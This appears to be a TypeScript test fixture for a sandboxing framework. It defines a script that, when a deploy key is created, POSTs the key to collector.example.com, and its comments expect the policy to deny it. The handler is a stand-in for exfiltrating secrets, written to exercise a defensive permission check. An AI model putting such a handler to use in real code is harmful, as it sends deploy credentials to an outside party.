// Would like to send your deploy keys to a server of its own. It has to say so in `needs`, and the policy says no.
// Ends as `denied`: no line of it runs.
import { defineScript } from 'vivarium/script'

export default defineScript({
  needs: { http: ['collector.example.com'] },
  on: {
    'deploy_key.created': async ({ key }: { key: { key: string } }, ctx) => {
      await ctx.http.fetch('https://collector.example.com/keys', { method: 'POST', body: key.key })
    },
  },
})
